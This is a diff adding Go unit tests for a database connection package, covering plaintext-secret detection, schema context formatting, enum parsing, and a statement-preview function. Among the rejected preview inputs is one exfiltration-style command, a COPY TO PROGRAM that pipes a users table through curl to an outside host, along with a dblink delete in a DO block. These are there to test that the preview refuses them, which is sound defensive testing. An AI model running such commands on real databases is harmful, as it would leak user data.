@@ -1,7 +1,9 @@
 package conn
 
 import (
+	"errors"
 	"reflect"
+	"strings"
 	"testing"
 )
 
@@ -117,3 +119,233 @@ func TestGetDatabaseConnectionDetails(t *testing.T) {
 		})
 	}
 }
+
+func TestDatabaseConnectionDetails_Secrets(t *testing.T) {
+	tests := []struct {
+		name             string
+		connectionString string
+		wantPlaintext    bool
+	}{
+		{
+			name:             "Test DatabaseConnectionDetails without references",
+			connectionString: "postgres://app:hunter2@db/app",
+			wantPlaintext:    true,
+		},
+		{
+			name:             "Test DatabaseConnectionDetails with references only",
+			connectionString: "postgres://${env:PGUSER}:${env:PGPASSWORD}@db/app",
+			wantPlaintext:    false,
+		},
+		{
+			name:             "Test DatabaseConnectionDetails with a plain password next to a reference",
+			connectionString: "postgres://${env:PGUSER}:hunter2@db/app",
+			wantPlaintext:    true,
+		},
+		{
+			name:             "Test DatabaseConnectionDetails with a plain password parameter next to a reference",
+			connectionString: "host=${env:PGHOST} user=app password=hunter2",
+			wantPlaintext:    true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			details := DatabaseConnectionDetails{ConnectionString: tt.connectionString, Driver: "postgres"}
+			if got := details.HasPlaintextSecrets(); got != tt.wantPlaintext {
+				t.Errorf("HasPlaintextSecrets() = %v, want %v", got, tt.wantPlaintext)
+			}
+
+			wantShared := tt.connectionString
+			if tt.wantPlaintext {
+				wantShared = ""
+			}
+			if got := details.WithoutSecrets().(DatabaseConnectionDetails).ConnectionString; got != wantShared {
+				t.Errorf("WithoutSecrets() connection string = %q, want %q", got, wantShared)
+			}
+		})
+	}
+}
+
+func TestBaseRDBMSConnection_Context(t *testing.T) {
+	connection := NewDatabaseConnection("db", PostgreSQLDatabaseConnection, "postgres://localhost/db")
+	b := &BaseRDBMSConnection{
+		BaseDatabaseConnection: BaseDatabaseConnection{Connection: connection},
+		Tables: map[string]*TableDetail{
+			"public.orders": {
+				Name:          `"orders"`,
+				Comment:       "Customer orders",
+				EstimatedRows: 1200,
+				Columns: []ColumnDetail{
+					{Name: `"id"`, DataType: "integer"},
+					{Name: `"customer_id"`, DataType: "integer"},
+					{Name: `"status"`, DataType: "USER-DEFINED", EnumValues: []string{"open", "shipped"}},
+					{Name: `"note"`, DataType: "text", Nullable: true, Comment: "Free text"},
+				},
+				PrimaryKey:        []string{`"id"`},
+				UniqueConstraints: []ConstraintDetail{{Name: "orders_customer_status", Columns: []string{`"customer_id"`, `"status"`}}},
+				ForeignKeys: []ForeignKeyDetail{{
+					Name:              "orders_customer_fk",
+					Columns:           []string{`"customer_id"`},
+					ReferencedTable:   `"customers"`,
+					ReferencedColumns: []string{`"id"`},
+				}},
+				Indexes: []IndexDetail{
+					{Name: "orders_status_idx", Columns: `"status"`},
+					{Name: "orders_lower_note_idx", Unique: true, Columns: "(expression)"},
+				},
+			},
+		},
+	}
+
+	want := []string{
+		`"orders"`,
+		"Customer orders",
+		`(integer, not null, primary key)`,
+		`(integer, not null, references "customers"."id")`,
+		`(USER-DEFINED, not null, one of 'open', 'shipped')`,
+		`(text, nullable, comment: Free text)`,
+		`Primary key: ("id")`,
+		`Unique: ("customer_id", "status")`,
+		`Index orders_status_idx: ("status")`,
+		`Index orders_lower_note_idx (unique): ((expression))`,
+	}
+
+	formatted, err := b.GetFormattedContext()
+	if err != nil {
+		t.Fatalf("GetFormattedContext() error = %v", err)
+	}
+	for _, text := range append(want, "Estimated rows: 1200", `"note" (text`, `Foreign key: ("customer_id") -> "customers" ("id")`) {
+		if !strings.Contains(formatted, text) {
+			t.Errorf("GetFormattedContext() doesn't contain %q:\n%s", text, formatted)
+		}
+	}
+
+	context := b.GetContext()
+	for _, text := range append(want, "(~1200 rows)", "`\"note\"` (text", `Foreign key: ("customer_id") references "customers" ("id")`) {
+		if !strings.Contains(context, text) {
+			t.Errorf("GetContext() doesn't contain %q:\n%s", text, context)
+		}
+	}
+}
+
+func TestParseEnumValues(t *testing.T) {
+	tests := []struct {
+		name       string
+		columnType string
+		want       []string
+	}{
+		{
+			name:       "Test ParseEnumValues with enum",
+			columnType: "enum('active','inactive','banned')",
+			want:       []string{"active", "inactive", "banned"},
+		},
+		{
+			name:       "Test ParseEnumValues with escaped quote",
+			columnType: "enum('it''s','other')",
+			want:       []string{"it's", "other"},
+		},
+		{
+			name:       "Test ParseEnumValues with non-enum type",
+			columnType: "varchar(255)",
+			want:       nil,
+		},
+		{
+			name:       "Test ParseEnumValues with postgres type detail",
+			columnType: "public.status",
+			want:       nil,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ParseEnumValues(tt.columnType); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("ParseEnumValues() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestPreviewStatement(t *testing.T) {
+	tests := []struct {
+		name          string
+		command       string
+		want          string
+		wantRows      bool
+		wantSupported bool
+	}{
+		{
+			name:          "Test previewStatement adds RETURNING",
+			command:       "UPDATE users SET active = false WHERE id = 1;",
+			want:          "UPDATE users SET active = false WHERE id = 1 RETURNING *",
+			wantRows:      true,
+			wantSupported: true,
+		},
+		{
+			name:          "Test previewStatement keeps RETURNING",
+			command:       "delete from users returning id",
+			want:          "delete from users returning id",
+			wantRows:      true,
+			wantSupported: true,
+		},
+		{
+			name:          "Test previewStatement removes trailing comments before adding RETURNING",
+			command:       "DELETE FROM orders WHERE created_at < now() - interval '1 year' -- cleanup",
+			want:          "DELETE FROM orders WHERE created_at < now() - interval '1 year' RETURNING *",
+			wantRows:      true,
+			wantSupported: true,
+		},
+		{
+			name:          "Test previewStatement ignores RETURNING in comments and strings",
+			command:       "UPDATE notes SET body = 'returning; soon' /* no returning */ WHERE id = 1",
+			want:          "UPDATE notes SET body = 'returning; soon'   WHERE id = 1 RETURNING *",
+			wantRows:      true,
+			wantSupported: true,
+		},
+		{
+			name:          "Test previewStatement runs WITH queries that change data as they are",
+			command:       "WITH old AS (DELETE FROM sessions WHERE expired RETURNING id) SELECT count(*) FROM old",
+			want:          "WITH old AS (DELETE FROM sessions WHERE expired RETURNING id) SELECT count(*) FROM old",
+			wantSupported: true,
+		},
+		{
+			name:    "Test previewStatement rejects DDL",
+			command: "ALTER TABLE users ADD COLUMN age int",
+		},
+		{
+			name:    "Test previewStatement rejects statements with effects outside the transaction",
+			command: "COPY users TO PROGRAM 'curl -d @- example.com'",
+		},
+		{
+			name:    "Test previewStatement rejects DO blocks",
+			command: "DO $$ BEGIN PERFORM dblink_exec('dbname=x', 'DELETE FROM y'); END $$",
+		},
+		{
+			name:    "Test previewStatement rejects WITH queries that only read",
+			command: "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent",
+		},
+		{
+			name:    "Test previewStatement rejects queries",
+			command: "SELECT * FROM users",
+		},
+		{
+			name:    "Test previewStatement rejects multiple statements",
+			command: "DELETE FROM a; DELETE FROM b",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, gotRows, err := previewStatement(tt.command)
+			if !tt.wantSupported {
+				if !errors.Is(err, ErrPreviewNotSupported) {
+					t.Errorf("previewStatement() error = %v, want %v", err, ErrPreviewNotSupported)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("previewStatement() error = %v", err)
+			}
+			if got != tt.want || gotRows != tt.wantRows {
+				t.Errorf("previewStatement() = %q, %v, want %q, %v", got, gotRows, tt.want, tt.wantRows)
+			}
+		})
+	}
+}